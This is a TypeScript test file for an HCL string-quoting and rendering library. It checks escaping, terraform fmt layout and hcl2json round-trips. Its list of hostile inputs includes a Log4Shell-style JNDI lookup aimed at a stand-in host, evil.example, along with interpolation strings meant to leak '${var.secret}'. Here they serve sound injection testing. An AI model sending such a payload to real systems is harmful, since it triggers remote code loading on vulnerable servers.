import { getExpressionAst, parse } from "@cdktf/hcl2json";
import { format } from "@cdktf/hcl-tools";
import { describe, expect, it } from "vitest";
import { scanHcl, stringLiteral, type HclAttribute } from "../../src/hcl/scan.js";
import {
  attr,
  blank,
  block,
  comment,
  quote,
  raw,
  renderBody,
  renderFile,
  renderValue,
  type BodyItem,
  type HclValue,
} from "../../src/hcl/write.js";

/**
 * How hcl2json prints a string value: it writes Terraform JSON syntax, where strings are templates
 * too, so a literal `${` / `%{` comes back escaped as `$${` / `%%{`. An interpolation that really
 * happened would come back as `${...}` instead, so comparing with this catches any injection.
 */
const asHcl2json = (value: string) => value.replace(/([$%])\{/g, (_m, sigil: string) => `${sigil}${sigil}{`);

/** A small deterministic PRNG (mulberry32), so that the generated cases are the same on every run. */
function prng(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

async function expectFmtClean(text: string): Promise<void> {
  expect(await format(text)).toBe(text);
}

const HOSTILE: [string, string][] = [
  ["empty", ""],
  ["double quotes", 'say "hi" and ""'],
  ["a lone quote", '"'],
  ["backslashes", "C:\\new\\table\\"],
  ["escaped-looking text", '\\" \\n \\u0041 \\${x}'],
  ["newlines", "line1\nline2\n"],
  ["CRLF", "a\r\nb"],
  ["tab", "a\tb"],
  ["log4j", "${jndi:ldap://evil.example/a}"],
  ["interpolation", "${var.secret}"],
  ["nested interpolation", '${"${var.secret}"}'],
  ["already escaped", "$${var.secret}"],
  ["three dollars", "$$${var.secret}"],
  ["dollar runs", "$ $$ $$$ ${ $${ $$${"],
  ["unclosed", "${"],
  ["strip markers", "${~ var.x ~}"],
  ["directive", "%{ if true }x%{ endif }"],
  ["for directive", '%{ for s in ["a"] }${s}%{ endfor }'],
  ["escaped directive", "%%{ if true }"],
  ["percent runs", "% %% %%% %{ %%{ %%%{"],
  ["mixed sigils", "$%{x} %${y}"],
  ["braces", "{}}{{ }"],
  ["comment markers", "# not a comment // nor /* this */"],
  ["heredoc marker", "<<EOT\nx\nEOT"],
  ["unicode", "héllo 日本語 Ελληνικά"],
  ["emoji", "😀 👩‍👩‍👧"],
  ["combining", "e\u0301"],
  ["line separators", "a\u2028b\u2029c\u0085d"],
  ["NUL", "a\u0000b"],
  ["control characters", "\u0001\u0007\u0008\u000b\u000c\u001b[31m\u001f"],
  ["DEL and C1", "\u007f\u0080\u009f"],
  ["BOM and zero width", "\ufeffa\u200bb"],
  ["right-to-left override", "abc\u202edef"],
  ["long", "${x}".repeat(2000) + '"'.repeat(100)],
];

describe("quote", () => {
  it.each(HOSTILE)("keeps %s exactly, uninterpolated", async (_name, value) => {
    const file = `x = ${quote(value)}\n`;
    const parsed = await parse("x.tf", file);
    // HCL normalizes every string literal to Unicode NFC (e + U+0301 reads as é): a property of the
    // language, not of quote().
    expect(parsed.x).toBe(asHcl2json(value.normalize("NFC")));
    // The parser sees literal text only: no interpolation, no directive.
    const ast = await getExpressionAst("x.tf", quote(value));
    expect(ast?.type).toBe("template");
    for (const child of ast?.children ?? []) expect(child.type).toBe("literalValue");
    // The scanner finds the same string, and the output is already terraform fmt layout.
    const [x] = scanHcl(file) as HclAttribute[];
    expect(file.slice(x!.exprStart, x!.exprEnd)).toBe(quote(value));
    await expectFmtClean(file);
  });

  it("writes one line with no raw control characters", () => {
    for (const [, value] of HOSTILE) {
      // eslint-disable-next-line no-control-regex
      expect(quote(value)).not.toMatch(/[\u0000-\u001f\u007f]/);
    }
  });

  it("escapes exactly what needs escaping", () => {
    expect(quote("plain text")).toBe('"plain text"');
    expect(quote('a"b\\c')).toBe('"a\\"b\\\\c"');
    expect(quote("\n\r\t")).toBe('"\\n\\r\\t"');
    expect(quote("\u0000\u001b\u007f")).toBe('"\\u0000\\u001b\\u007f"');
    expect(quote("${x} %{y} $x %y {z}")).toBe('"$${x} %%{y} $x %y {z}"');
    expect(quote("$${x}")).toBe('"$$${x}"');
    expect(quote("é😀")).toBe('"é😀"');
  });

  it("reads back through stringLiteral where that applies", () => {
    for (const [, value] of HOSTILE) {
      if (/[$%]\{/.test(value)) continue; // stringLiteral leaves templates undefined
      expect(stringLiteral(quote(value))).toBe(value);
    }
  });

  it("round-trips 400 generated hostile strings in one file", async () => {
    const alphabet = ["$", "$", "%", "%", "{", "{", "}", "\\", '"', "\n", "\r", "\t", "~", "a", " "];
    const extra = ["é", "😀", "\u0000", "\u007f", "#", "/", "*", "<", "\u2028", "x"];
    const random = prng(20240611);
    const values: string[] = [];
    for (let n = 0; n < 400; n++) {
      const pool = n % 2 ? alphabet : [...alphabet, ...extra];
      let value = "";
      const length = Math.floor(random() * 14);
      for (let i = 0; i < length; i++) value += pool[Math.floor(random() * pool.length)];
      values.push(value);
    }
    const file = values.map((v, i) => `v${i} = ${quote(v)}\n`).join("");
    const parsed = await parse("fuzz.tf", file);
    values.forEach((value, i) => expect(parsed[`v${i}`], JSON.stringify(value)).toBe(asHcl2json(value)));
    const scanned = scanHcl(file) as HclAttribute[];
    expect(scanned).toHaveLength(values.length);
    scanned.forEach((a, i) => expect(file.slice(a.exprStart, a.exprEnd)).toBe(quote(values[i]!)));
  });
});

describe("renderValue", () => {
  it("writes scalars, raw expressions and short lists inline", () => {
    expect(renderValue(1, "")).toBe("1");
    expect(renderValue(-2.5, "")).toBe("-2.5");
    expect(renderValue(true, "")).toBe("true");
    expect(renderValue(raw("var.x"), "")).toBe("var.x");
    expect(renderValue([], "")).toBe("[]");
    expect(renderValue({}, "")).toBe("{}");
    expect(renderValue(["a", 1, raw("var.b")], "")).toBe('["a", 1, var.b]');
  });

  it("breaks long lists and lists of collections over lines", () => {
    const long = Array.from({ length: 12 }, (_, i) => `namespace-${i}`);
    expect(renderValue(long, "  ")).toBe(`[\n${long.map((n) => `    "${n}",\n`).join("")}  ]`);
    expect(renderValue([{ a: 1 }], "")).toBe("[\n  {\n    a = 1\n  },\n]");
    expect(renderValue([[1]], "")).toBe("[\n  [1],\n]");
  });

  it("quotes object keys that are not identifiers", () => {
    expect(renderValue({ a: 1, "b.c/d": 2, 'e"f': 3, "1x": 4 }, "")).toBe(
      '{\n  a       = 1\n  "b.c/d" = 2\n  "e\\"f"  = 3\n  "1x"    = 4\n}',
    );
  });
});

// Bodies that terraform fmt must leave as they are.
const BODIES: Record<string, BodyItem[]> = {
  "module with nested blocks, lists of objects, comments and raw expressions": [
    comment("Managed by argocd-cluster-link: do not edit by hand."),
    block(
      "module",
      ["role_argocd_link"],
      [
        attr("source", "github.com/binbashar/terraform-aws-iam.git//modules/iam-assumable-role?ref=v5.0.0"),
        blank,
        attr("create_role", true),
        attr("role_name", raw('"${var.environment}-argocd-link"')),
        attr(
          "provider_url",
          raw('replace(data.aws_eks_cluster.this.identity[0].oidc[0].issuer, "https://", "")'),
        ),
        attr("max_session_duration", 3600),
        attr("role_policy_arns", []),
        attr("tags", raw("local.tags")),
        attr("trusted_role_arns", [raw("module.a.arn"), "arn:aws:iam::123456789012:role/x"]),
        attr("oidc_fully_qualified_subjects", [
          "system:serviceaccount:argocd:argocd-application-controller",
          "system:serviceaccount:argocd:argocd-server",
          "system:serviceaccount:argocd:argocd-applicationset-controller",
        ]),
        attr("z", 0),
      ],
    ),
    blank,
    block(
      "resource",
      ["aws_iam_policy", "argocd_link"],
      [
        attr("name", "argocd-link"),
        attr("policy", raw('jsonencode({\n    Version = "2012-10-17"\n  })')),
        attr("description", "Lets ArgoCD assume the target role"),
      ],
    ),
  ],
  "map_roles style list of objects in locals": [
    block(
      "locals",
      [],
      [
        attr("map_roles", [
          {
            rolearn: raw('"arn:aws:iam::${var.accounts.apps.id}:role/argocd"'),
            username: "argocd",
            groups: ["argocd-view"],
          },
          { rolearn: "arn:aws:iam::1:role/DevOps", username: "DevOps", groups: ["system:masters"] },
        ]),
        attr("empty_list", []),
        attr("empty_map", {}),
        attr("nested", { a: { b: { c: [1, 2, 3] } }, dd: [], eee: {} }),
      ],
    ),
  ],
  "alignment groups broken by multi-line values, comments and blank lines": [
    attr("a", 1),
    attr("bbbbbb", 2),
    attr("list", [{ x: 1 }]),
    attr("cc", 3),
    attr("d", 4),
    comment("a comment\n\nover three lines"),
    attr("eeeeeeeeee", 5),
    attr("f", 6),
    blank,
    attr("g", 7),
    attr("hhh", raw("var.h")),
    block("b", ['label with "quotes" and ${x}'], [attr("i", 1), attr("jjjj", [])]),
    attr("k", 8),
  ],
  "empty blocks and blocks with only blocks": [
    block(
      "terraform",
      [],
      [
        block("backend", ["s3"], []),
        block("required_providers", [], [attr("aws", { source: "hashicorp/aws", version: "~> 5.0" })]),
      ],
    ),
    block("data", ["aws_caller_identity", "current"], []),
  ],
  "hostile strings everywhere": [
    block(
      "resource",
      ["kubernetes_secret_v1", "x"],
      [
        attr("data", Object.fromEntries(HOSTILE.map(([name, value]) => [name, value]))),
        attr(
          "list",
          HOSTILE.slice(0, 10).map(([, value]) => value),
        ),
      ],
    ),
  ],
  "quoted keys with non-ASCII text": [
    attr("labels", {
      é: "one column",
      "team/😀": "emoji",
      "e\u0301": "combining",
      abcdefgh: "ascii",
      日本: "wide",
    }),
  ],
  "a heredoc in an alignment group": [
    attr("a", 1),
    attr("policy", raw('<<EOT\n{\n  "a": "${var.x}"\n}\nEOT')),
    attr("ccc", 3),
    blank,
    attr("script", raw("<<-EOT\n  echo hi\n  EOT")),
    attr("empty", raw("<<EOT\nEOT")),
    attr("after", 1),
  ],
};

describe("renderFile", () => {
  it.each(Object.entries(BODIES))("writes %s in terraform fmt layout", async (_name, items) => {
    const out = renderFile(items);
    await parse("out.tf", out);
    await expectFmtClean(out);
    expect(out.endsWith("\n")).toBe(true);
    expect(out).not.toMatch(/\n\n\n/);
    // The scanner reads back every top-level item.
    expect(scanHcl(out)).toHaveLength(items.filter((i) => i.kind === "attr" || i.kind === "block").length);
  });

  it("renders the exact layout terraform fmt expects", () => {
    expect(
      renderFile([
        attr("a", 1),
        attr("bbb", "x"),
        attr("list", [{ k: "v", kk: [] }]),
        comment("note"),
        block("b", ["l"], [attr("c", true), blank, blank, attr("dd", raw("var.d"))]),
      ]),
    ).toBe(
      [
        "a   = 1",
        'bbb = "x"',
        "list = [",
        "  {",
        '    k  = "v"',
        "    kk = []",
        "  },",
        "]",
        "# note",
        'b "l" {',
        "  c = true",
        "",
        "  dd = var.d",
        "}",
        "",
      ].join("\n"),
    );
  });

  it("gives the values back to hcl2json", async () => {
    const str = "x ${y} %{z}";
    const value: Record<string, HclValue> = {
      str,
      num: 42,
      neg: -1.5,
      bool: false,
      list: ["a", "b"],
      objects: [{ a: 1 }, { b: [true] }],
      nested: { "key with space": { deep: ["é", "\n"] } },
      empty: [],
      none: {},
    };
    const parsed = await parse("out.tf", renderFile([attr("v", value)]));
    expect(parsed.v).toEqual({
      ...value,
      str: asHcl2json(str),
    });
  });

  it("writes generated value trees in terraform fmt layout, readable back", async () => {
    const random = prng(7);
    const pick = <T>(xs: T[]): T => xs[Math.floor(random() * xs.length)]!;
    const names = ["a", "bb", "name_long", "x-y", "With Space", "é", "$${", "k"];
    const strings = ["", "v", "${x}", 'q"', "a\nb", "%{ if }", "é😀", "\\"];
    const gen = (depth: number): HclValue => {
      const kind = depth > 3 ? Math.floor(random() * 3) : Math.floor(random() * 5);
      if (kind === 0) return pick(strings);
      if (kind === 1) return pick([0, 1, -3, 2.5, true, false]);
      if (kind === 2) return pick([[], {}]);
      if (kind === 3) return Array.from({ length: Math.floor(random() * 4) }, () => gen(depth + 1));
      const out: Record<string, HclValue> = {};
      for (let i = Math.floor(random() * 4); i > 0; i--) out[pick(names)] = gen(depth + 1);
      return out;
    };
    const toJson = (value: HclValue): unknown => {
      if (typeof value === "string") return asHcl2json(value);
      if (Array.isArray(value)) return value.map(toJson);
      if (typeof value === "object") {
        // Keys are templates in Terraform JSON syntax too.
        return Object.fromEntries(
          Object.entries(value).map(([k, v]) => [asHcl2json(k), toJson(v as HclValue)]),
        );
      }
      return value;
    };
    for (let n = 0; n < 40; n++) {
      const items: BodyItem[] = [];
      const expected: Record<string, unknown> = {};
      for (let i = 0; i < 6; i++) {
        const value = gen(0);
        items.push(attr(`attr_${"x".repeat(i * 3)}${i}`, value));
        expected[`attr_${"x".repeat(i * 3)}${i}`] = toJson(value);
        if (random() < 0.2) items.push(pick([blank, comment("c")]));
      }
      const out = renderFile([block("locals", [], items)]);
      await expectFmtClean(out);
      const parsed = await parse("gen.tf", out);
      expect((parsed.locals as unknown[])[0]).toEqual(expected);
    }
  });

  it("collapses runs of blank lines and keeps one final newline", () => {
    expect(renderFile([attr("a", 1), blank, blank, blank, attr("b", 2)])).toBe("a = 1\n\nb = 2\n");
    expect(renderFile([block("a", [], [])])).toBe("a {}\n");
  });

  it("renders a body at any indentation", () => {
    expect(renderBody([attr("a", 1), attr("bb", { c: 1 })], "    ")).toBe(
      "    a = 1\n    bb = {\n      c = 1\n    }\n",
    );
  });
});
